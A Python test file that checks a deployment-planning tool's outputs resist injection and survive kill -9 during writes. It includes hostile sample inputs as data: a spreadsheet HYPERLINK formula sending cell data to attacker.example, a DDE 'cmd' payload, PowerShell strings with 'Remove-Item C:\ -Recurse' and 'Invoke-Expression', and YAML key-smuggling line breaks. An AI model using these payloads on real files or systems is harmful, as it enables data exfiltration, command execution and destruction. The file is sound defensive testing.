"""Outputs are safe to open and never half-written (issue 6): hostile text from an input never becomes a formula
in a spreadsheet, a line of PowerShell, a YAML key or a path; kill -9 during a write leaves the previous file whole.
"""

from __future__ import annotations

import io
import json
import os
import re
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from click.testing import CliRunner
from docx import Document

import decision
from decision import appendix, views
from decision.catalog import default_catalog
from decision.cli import main
from decision.commands import _quote
from decision.import_command import profile_yaml
from decision.parameters import default_parameters
from decision.safe_output import FORMULA_PATTERN, csv_bytes, xlsx_bytes

ROOT = Path(__file__).resolve().parents[1]
PROFILE = ROOT / "data" / "profiles" / "contoso-2026.yaml"
EXPORT = ROOT / "tests" / "data" / "exchange" / "ex2016-contoso.json"
FORMULA = re.compile(FORMULA_PATTERN)
HOSTILE_ORG = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"report\")"


def hostile_profile(**changes) -> dict:
    """The example with text that starts like a formula wherever free text reaches the outputs (a currency is an ISO
    4217 code: '+USD' is refused, so it reaches none)."""
    return {**yaml.safe_load(PROFILE.read_text()), "org": HOSTILE_ORG, "id": "@SUM(1)", **changes}


def risky_cells(values) -> list[str]:
    return [v for v in values if isinstance(v, str) and FORMULA.match(v)]


def unmarked_cells(sheet) -> list[str]:
    """A sheet's cells that start like a formula and are not text marked to stay text when edited (quote prefix)."""
    return [c.value for row in sheet.iter_rows() for c in row
            if risky_cells([c.value]) and not (c.data_type == "s" and c.quotePrefix)]


# ----------------------------------------------------------------------------------------- tables

def test_the_errors_file_neutralises_hostile_values_file_names_and_columns(tmp_path):
    source = tmp_path / "=cmd.csv"
    source.write_text("org,external_domain,users,mobile_devices\n=1+1,=HYPERLINK(1),@5,-3\nB,b.com,5,+7 phones\n")
    for suffix in (".csv", ".xlsx"):
        out, errors = tmp_path / f"out{suffix}", tmp_path / f"errors{suffix}"
        result = CliRunner().invoke(main, ["score", str(source), "-o", str(out), "--errors", str(errors)])
        assert result.exit_code == 1, result.output
        if suffix == ".csv":
            table = pd.read_csv(errors, dtype=str, keep_default_na=False)
        else:
            sheet = openpyxl.load_workbook(errors).active
            assert not unmarked_cells(sheet)  # their text as given, in cells that stay text; below, as CSV writes it
            rows = [["'" * bool(risky_cells([v])) + str(v) for v in row] for row in sheet.values]
            table = pd.DataFrame(rows[1:], columns=rows[0]).astype(str)
        assert set(table["row"]) == {"2", "3"}
        assert "'=HYPERLINK(1)" in set(table["value"]) and "'+7 phones" in set(table["value"])
        assert not risky_cells(table.to_numpy().ravel())


def test_app_downloads_are_formula_safe():
    res = views.ProfileResults(hostile_profile(), default_parameters(), default_catalog())
    frame = res.results
    text = pd.read_csv(io.BytesIO(csv_bytes(frame)), dtype=str, keep_default_na=False)
    assert not risky_cells(text.to_numpy().ravel())
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame, sheet="options"))).active
    assert "@SUM(1)" in [v for row in sheet.values for v in row] and not unmarked_cells(sheet)
    assert views.slug(HOSTILE_ORG) == "hyperlink-http-attacker-example-a1-report"


def test_appendix_tables_are_formula_safe_in_every_format():
    ev = decision.evaluate(hostile_profile())
    model = appendix.content(ev)
    cells = [c for s in model.sections for b in s.blocks if b.kind == "table" for r in (b.columns, *b.rows) for c in r]
    assert f"'{HOSTILE_ORG}" in cells and not risky_cells(cells)
    doc = Document(io.BytesIO(appendix.build(ev, 0, "docx")))
    assert not risky_cells([cell.text for table in doc.tables for row in table.rows for cell in row.cells])
    html = appendix.build(ev, 0, "html").decode()
    assert not re.search(r"<t[dh][^>]*>\s*[=+@]", html)


# ------------------------------------------------------------------------------------------ commands

@pytest.mark.parametrize("quote", ["'", "\u2018", "\u2019", "\u201a", "\u201b"])
def test_powershell_strings_cannot_be_closed_by_any_single_quote(quote):
    text = f"x{quote}; Remove-Item C:\\ -Recurse; {quote}"
    quoted = _quote(text)
    inner = quoted[1:-1]
    # inside, every PowerShell single quote comes in pairs: the string never ends before its last character
    assert all(len(run) % 2 == 0 for run in re.findall("['\u2018\u2019\u201a\u201b]+", inner))


def test_an_organisation_name_stays_inside_its_powershell_string():
    ev = decision.evaluate(hostile_profile(org="Contoso\u2019; Invoke-Expression $x; \u2018", internal_ca=True))
    commands, _ = decision.report.deployments(ev, 0)
    line = next(line for line in commands["san"] if "-FriendlyName" in line)
    assert "-FriendlyName 'Contoso\u2019\u2019; Invoke-Expression $x; \u2018\u2018 san'" in line


# ------------------------------------------------------------------------------------------- import

@pytest.mark.parametrize("breaker", ["\n", "\r", "\x85", "\u2028", "\u2029", "\x0b", "\x0c"])
def test_text_in_import_notes_cannot_start_a_yaml_line(breaker):
    text = profile_yaml({"org": "contoso.com", "external_domain": "contoso.com", "users": 5},
                        [f"collection error: boom{breaker}ca: entrust{breaker}- mdm_share: 1"], [f"from x{breaker}users: 9"])
    assert yaml.safe_load(text) == {"org": "contoso.com", "external_domain": "contoso.com", "users": 5}


def test_import_of_a_hostile_export_writes_a_profile_with_only_its_own_keys(tmp_path):
    data = json.loads(EXPORT.read_text())
    data["collected_at"] = "2026-01-01\x85users: 999999"
    data["errors"] = [{"Command": "Get-Mailbox", "Message": "=cmd|' /C calc'!A0\x85mdm_share: 1"}]
    (tmp_path / "x.json").write_text(json.dumps(data))
    result = CliRunner().invoke(main, ["import", str(tmp_path / "x.json"), "-o", str(tmp_path / "p.yaml")])
    assert result.exit_code == 0, result.output
    written = yaml.safe_load((tmp_path / "p.yaml").read_text(encoding="utf-8"))
    assert written["users"] == 1250 and "mdm_share" not in written


# --------------------------------------------------------------------------------- atomic writes

# Run the CLI in a child that is killed (SIGKILL) in the middle of writing its output: half the bytes are on
# disk, synced, when the process dies.
_DIES_WHILE_WRITING = """
import os, signal, sys
from pathlib import Path

def dying(self, data, *args, **kwargs):
    if self.name.endswith(".part"):
        raw = data.encode("utf-8") if isinstance(data, str) else data
        with open(self, "wb") as fh:
            fh.write(raw[: len(raw) // 2])
            fh.flush()
            os.fsync(fh.fileno())
        os.kill(os.getpid(), signal.SIGKILL)
    return (REAL_TEXT if isinstance(data, str) else REAL_BYTES)(self, data, *args, **kwargs)

REAL_BYTES, REAL_TEXT = Path.write_bytes, Path.write_text
Path.write_bytes = Path.write_text = dying
from decision.cli import main
main(sys.argv[1:])
"""


@pytest.mark.parametrize(("command", "output"), [
    (["appendix", str(PROFILE)], "appendix.docx"),
    (["appendix", str(PROFILE)], "appendix.html"),
    (["import", str(EXPORT)], "profile.yaml"),
])
def test_kill_9_while_writing_leaves_the_previous_output_whole(tmp_path, command, output):
    target = tmp_path / output
    first = CliRunner().invoke(main, [*command, "-o", str(target)])
    assert first.exit_code == 0, first.output
    previous = target.read_bytes()
    target.write_bytes(previous + b"\n")  # mark it, so a rewrite of the same content would be noticed
    previous = target.read_bytes()
    child = subprocess.run([sys.executable, "-c", _DIES_WHILE_WRITING, *command, "-o", str(target)], cwd=ROOT,
                           capture_output=True, timeout=300)
    assert child.returncode == -signal.SIGKILL, child.stderr.decode()
    assert target.read_bytes() == previous
    parts = [p for p in tmp_path.iterdir() if p.name.endswith(".part")]
    assert parts and all(0 < p.stat().st_size < len(previous) for p in parts)  # it died mid-write, beside the target
    if output.endswith(".docx"):
        assert zipfile.ZipFile(target).testzip() is None
    os.remove(parts[0])
